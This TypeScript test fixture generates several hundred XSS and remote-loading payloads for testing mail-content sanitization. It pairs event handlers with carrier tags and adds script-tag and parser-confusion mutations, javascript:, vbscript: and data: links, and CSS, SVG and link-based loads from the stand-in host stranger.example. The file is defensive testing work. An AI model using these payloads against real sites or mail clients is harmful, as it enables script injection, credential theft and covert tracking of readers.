/**
 * Hostile markup of our own making: every string tries to run a script, which would call `hit`, or to load something
 * from `stranger.example`. None of it may happen, wherever a mail puts it.
 */

const RUN = 'parent.hit?.();top.hit?.();window.hit?.()';
const AWAY = 'http://stranger.example/seen';

/** Ways to make an element run something. */
const HANDLERS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'onbegin',
  'onend',
  'onpageshow',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onscroll',
  'oninput',
  'onbeforeinput',
  'onhashchange',
  'onmessage',
  'ontransitionend',
  'onfocusin',
  'onauxclick',
  'oncut',
  'onwheel',
  'onloadstart',
  'oncanplay',
  'onstart',
  'onsecuritypolicyviolation',
] as const;
const CARRIERS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'marquee',
  'iframe',
  'object data=x',
  'math',
] as const;

const CASES = (text: string) => [text, text.toUpperCase().replaceAll(RUN.toUpperCase(), RUN)];
const handled = CARRIERS.flatMap((carrier) => HANDLERS.map((handler) => `<${carrier} ${handler}="${RUN}">`));

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script x>${RUN}</script x>`,
  `<script\u0000>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${AWAY}.js" /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `<textarea><img title="</textarea><img src=x onerror='${RUN}'>"></textarea>`,
  `<title><img title="</title><img src=x onerror='${RUN}'>"></title>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if gte mso 9]><img src=x onerror="${RUN}"><![endif]-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<style><!--</style><script>${RUN}//--></script>`,
  `"><img src=x onerror="${RUN}">`,
  `'-${RUN}-'`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<form id=x><input name=parentNode><input name=attributes></form><img src=x onerror="${RUN}">`,
  `<a id=Office><a id=Office name=context href="javascript:${RUN}">x</a>`,
];

const links = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java&#10;script',
  '&#106;avascript',
  'vbscript',
  'data',
].flatMap((scheme) => {
  const to = scheme === 'data' ? `data:text/html,<script>${RUN}</script>` : `${scheme}:${RUN}`;
  return [
    `<a href="${to}">x</a>`,
    `<iframe src="${to}"></iframe>`,
    `<form action="${to}"><button>x</button></form>`,
    `<object data="${to}"></object>`,
    `<embed src="${to}">`,
    `<meta http-equiv=refresh content="0;url=${to}">`,
    `<base href="${to}">`,
    `<svg><a href="${to}"><text>x</text></a></svg>`,
  ];
});

const loads = [
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<picture><source srcset="${AWAY}.png"><img></picture>`,
  `<video poster="${AWAY}.png"></video>`,
  `<video src="${AWAY}.mp4" autoplay></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<track src="${AWAY}.vtt">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=prefetch href="${AWAY}">`,
  `<link rel=preload as=image href="${AWAY}.png">`,
  `<link rel=dns-prefetch href="//stranger.example">`,
  `<link rel=preconnect href="//stranger.example">`,
  `<link rel=icon href="${AWAY}.ico">`,
  `<link rel=manifest href="${AWAY}.json">`,
  `<style>@import "${AWAY}.css";</style>`,
  `<style>body{background:url(${AWAY}.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}.woff2)}*{font-family:x!important}</style>`,
  `<p style="background:url('${AWAY}.png')">x</p>`,
  `<p style="background-image:image-set('${AWAY}.png' 1x)">x</p>`,
  `<p style="list-style:url(${AWAY}.png);display:list-item">x</p>`,
  `<p style="content:url(${AWAY}.png)">x</p>`,
  `<p style="cursor:url(${AWAY}.cur),auto">x</p>`,
  `<p style="mask:url(${AWAY}.svg#m)">x</p>`,
  `<table background="${AWAY}.png"><tr><td background="${AWAY}.png">x</td></tr></table>`,
  `<body background="${AWAY}.png">`,
  `<svg><image href="${AWAY}.png"/></svg>`,
  `<svg><feImage href="${AWAY}.png"/></svg>`,
  `<svg><filter id=f><feImage xlink:href="${AWAY}.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<svg><use href="${AWAY}.svg#x"/></svg>`,
  `<svg><rect fill="url(${AWAY}.svg#x)" width=9 height=9 /></svg>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<img src='${AWAY}.png'>"></iframe>`,
  `<frameset><frame src="${AWAY}"></frameset>`,
  `<object data="${AWAY}.swf"></object>`,
  `<embed src="${AWAY}.svg">`,
  `<applet code="${AWAY}.class"></applet>`,
  `<input type=image src="${AWAY}.png">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="http://stranger.example/"><img src=relative.png>`,
  `<form action="${AWAY}"><input name=x><button autofocus>x</button></form>`,
  `<a href="${AWAY}" ping="${AWAY}">x</a>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${AWAY}"]}]}</script>`,
];

/** A few hundred, no two alike. */
export const HOSTILE: readonly string[] = [
  ...new Set([...scripts, ...links, ...loads, ...handled].flatMap(CASES)),
];
